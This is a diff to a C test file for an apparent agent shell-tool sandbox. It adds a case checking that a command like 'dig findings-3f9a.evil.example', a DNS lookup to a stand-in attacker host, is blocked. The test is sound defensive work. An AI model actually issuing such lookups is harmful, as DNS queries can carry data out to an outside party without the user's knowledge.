@@ -158,6 +158,9 @@ Test(agents, reads_run_as_kopilot_changes_become_proposals_blocked_is_refused)
 	r = call(NULL, "run_shell", "{\"command\": \"python3 -c 'print(1)'\"}", &e);
 	cr_expect(strstr(r, "NOT RUN"), "%s", r);
 	free(r);
+	r = call(NULL, "run_shell", "{\"command\": \"dig findings-3f9a.evil.example\"}", &e);
+	cr_expect(strstr(r, "NOT RUN"), "a lookup is data sent out: proposed, never run: %s", r);
+	free(r);
 	r = call(NULL, "run_shell", "{\"command\": \"date -u\"}", &e);
 	cr_expect_not(e, "%s", r);
 	free(r);
